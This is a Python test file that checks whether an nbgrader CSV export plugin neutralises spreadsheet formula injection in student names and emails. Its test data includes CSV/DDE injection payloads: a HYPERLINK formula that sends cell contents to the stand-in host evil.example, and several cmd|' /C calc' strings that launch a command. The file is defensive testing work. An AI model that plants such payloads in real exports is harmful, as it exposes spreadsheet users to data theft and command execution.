"""`nbgrader export` writes a file in which nobody's name is a formula."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from nbgrader.api import Gradebook
from traitlets.config import PyFileConfigLoader
from traitlets.utils.importstring import import_item

from autograder.nbgrader_plugins.export import COLUMNS, CsvExport, safe_field

from .conftest import ROOT

NAMES = {
    "formula": '=HYPERLINK("http://evil.example?"&A1)',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "line": 'x\n=1+1,"y"',
    "wide": "\uff1d1+1",
    "semicolon": "Lee;=1+1",
    "semicolon and more": "Lee; \t'\"=1+1",
    "bar": "Lee|@SUM(1)",
    "comma": "Lee,+1+1",
    "blank": "Lee -1+1",
    "return": "Lee\r=1+1",
}


@pytest.mark.parametrize("kind", NAMES)
def test_a_name_is_never_the_beginning_of_a_formula_or_a_line(kind: str) -> None:
    field = safe_field(NAMES[kind])
    for part in re.split(r"[,;|\s]", field):
        assert part.lstrip('"')[:1] not in tuple("=+-@\uff1d")
    assert field.isprintable()


@pytest.mark.parametrize(
    "value", ["Anna-Maria", "O'Neill", "Øe, Åse", -3.5, 2, 1e-07, "2026-11-21 10:00:00", "a@b.example"]
)
def test_an_ordinary_value_stays_as_it_is(value: object) -> None:
    assert safe_field(value) == str(value)


def test_the_course_exports_with_it() -> None:
    config = PyFileConfigLoader("nbgrader_config.py", path=str(ROOT)).load_config()
    assert import_item(config.ExportApp.plugin_class) is CsvExport


@pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")  # of nbgrader's own
def test_a_row_holds_a_student_s_own_name_and_no_other_column(tmp_path: Path) -> None:
    written = tmp_path / "grades.csv"
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as gradebook:
        gradebook.add_assignment("numbers")
        gradebook.add_assignment("left out")
        gradebook.add_student("eve", last_name=NAMES["formula"], first_name="Åse, B.")
        gradebook.add_student("bob", last_name="O'Neill", email="-bob@b.example")
        gradebook.add_submission("numbers", "bob")
        CsvExport(to=str(written), assignment=["numbers"]).export(gradebook)
    with written.open(newline="", encoding="utf-8") as file:
        rows = {row["student_id"]: row for row in csv.DictReader(file)}
    assert tuple(rows["eve"]) == COLUMNS
    assert rows["eve"]["last_name"] == f"'{NAMES['formula']}"
    assert rows["eve"]["first_name"] == "Åse, B."
    assert rows["bob"]["last_name"] == "O'Neill"
    assert rows["bob"]["email"] == "'-bob@b.example"
    assert [row["score"] for row in rows.values()] == ["0.0", "0.0"]
